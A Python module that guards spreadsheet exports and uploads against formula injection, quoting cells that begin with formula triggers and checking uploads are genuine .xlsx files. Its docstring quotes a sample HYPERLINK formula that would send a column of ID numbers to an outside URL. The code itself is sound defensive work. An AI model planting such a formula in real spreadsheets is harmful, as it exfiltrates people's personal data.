"""Spreadsheets people open safely: no cell a user typed becomes a formula.

A value starting with =, +, -, @, a tab or a carriage return is what Excel, WPS and LibreOffice
read as a formula (`=HYPERLINK("http://…?"&E4)` would send column E, the ID numbers, away on a
click). Every export saves through `workbook_bytes()` (Excel) or writes rows through `csv_row()`
(CSV), which keep such values as text."""

from __future__ import annotations

import datetime
import io
import zipfile

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def make_formula_safe(workbook) -> int:
    """Turn every formula cell of `workbook` into text shown as typed (Excel's quote prefix: the
    value is not evaluated, not even after editing the cell). Returns how many cells it changed.
    The exports write no formulas of their own, so every formula cell came from a value."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or looks_like_formula(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def workbook_bytes(workbook) -> bytes:
    """The .xlsx file of `workbook`, formula-safe. A write-only (streaming) workbook cannot be read
    back before it is saved: its rows are made safe as they are written, through `safe_row()`."""
    if not getattr(workbook, "write_only", False):
        make_formula_safe(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_cell(value):
    """A CSV cell that no spreadsheet evaluates: a leading apostrophe before a formula trigger."""
    return f"'{value}" if looks_like_formula(value) else value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


# --- Reading an upload --------------------------------------------------------------------------

MAX_UPLOAD_BYTES = 10 * 1024 * 1024
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # .xls, or an encrypted .xlsx


def open_uploaded_workbook(uploaded, *, too_big: str, not_xlsx: str, max_bytes: int = MAX_UPLOAD_BYTES):
    """An upload opened as .xlsx (read only), judged by its content, a zip holding the workbook
    parts, never by its name; refused in Chinese otherwise (`too_big` may hold %(mb)d). Formula
    cells are read as the formula text they hold, so an import stores what was typed, as text."""
    from django.core.exceptions import ValidationError
    from django.utils.translation import gettext as _

    too_big_error = ValidationError(too_big % {"mb": max_bytes // 1024 // 1024}, code="too_big")
    if getattr(uploaded, "size", None) is not None and uploaded.size > max_bytes:
        raise too_big_error
    uploaded.seek(0)
    data = uploaded.read(max_bytes + 1)
    if len(data) > max_bytes:
        raise too_big_error
    if not data:
        raise ValidationError(_("上传的文件是空的。"), code="empty_file")
    if data.startswith(OLE_MAGIC):
        raise ValidationError(_("这是旧版 Excel（.xls）或加密的文件，请另存为 .xlsx 格式后再上传。"), code="not_xlsx")
    not_xlsx_error = ValidationError(not_xlsx, code="not_xlsx")
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            names = set(archive.namelist())
    except zipfile.BadZipFile as exc:
        raise not_xlsx_error from exc
    if "xl/workbook.xml" not in names or "[Content_Types].xml" not in names:
        raise not_xlsx_error
    from openpyxl import load_workbook

    try:
        return load_workbook(io.BytesIO(data), read_only=True, data_only=False)
    except Exception as exc:  # openpyxl raises many kinds for a damaged file
        raise not_xlsx_error from exc


def cell_text(value) -> str:
    """A cell's value as the text a person typed: 3.0 is "3", a date is 2026-12-01, blanks are ""."""
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime.datetime):
        return value.date().isoformat()
    return str(value).strip()


# --- Streaming (write-only) workbooks ----------------------------------------------------------


def safe_cell(sheet, value, **style):
    """One cell of a write-only `sheet` (openpyxl streams its rows, so `make_formula_safe()` cannot
    go over them afterwards): a value that looks like a formula is stored as text shown as typed,
    as `make_formula_safe()` would. `style`: cell attributes (font, number_format, alignment...)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if cell.data_type == "f" or looks_like_formula(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def safe_row(sheet, values, **style) -> list:
    """A row of `safe_cell()`s for `sheet.append()`; every cell gets `style`."""
    return [safe_cell(sheet, value, **style) for value in values]
